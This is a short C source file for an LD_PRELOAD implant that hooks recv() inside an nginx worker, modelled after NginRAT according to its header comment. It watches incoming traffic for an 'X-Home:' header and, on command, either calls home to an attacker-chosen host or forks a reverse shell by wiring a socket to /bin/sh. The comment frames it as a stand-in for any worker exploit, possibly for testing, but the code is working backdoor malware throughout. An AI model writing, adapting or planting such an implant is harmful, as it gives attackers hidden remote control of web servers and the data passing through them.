/* Loaded into nginx by LD_PRELOAD, as NginRAT was into shops: code of an attacker that runs within a worker.
 * It waits for a request with a header and does what that says: "X-Home: quiet HOST PORT" calls home from
 * within the process, "X-Home: shell HOST PORT" gives them a shell. Stands for any exploit of a worker. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

#include "call_home.h"

static void give_shell(const char* host, unsigned short port) {
  if (fork() != 0) return;
  int link = reach_home(host, port);
  for (int descriptor = 0; descriptor < 3; ++descriptor)
    dup2(link, descriptor);
  execl("/bin/sh", "sh", (char*)NULL);
  _exit(1);
}

static void obey(const char* bytes, size_t size) {
  static const char kHeader[] = "X-Home: ";
  const char* order = memmem(bytes, size, kHeader, sizeof kHeader - 1);
  if (order == NULL) return;
  char line[80] = "", way[8], host[32];
  unsigned short port;
  const size_t left = size - (size_t)(order - bytes);
  memcpy(line, order, left < sizeof line - 1 ? left : sizeof line - 1);
  if (sscanf(line, "X-Home: %7s %31s %hu", way, host, &port) != 3) return;
  if (strcmp(way, "shell") == 0)
    give_shell(host, port);
  else
    call_home(host, port);
}

ssize_t recv(int descriptor, void* buffer, size_t size, int flags) {
  static ssize_t (*next)(int, void*, size_t, int);
  if (next == NULL) next = (ssize_t(*)(int, void*, size_t, int))dlsym(RTLD_NEXT, "recv");
  const ssize_t received = next(descriptor, buffer, size, flags);
  if (received > 0) obey(buffer, (size_t)received);
  return received;
}
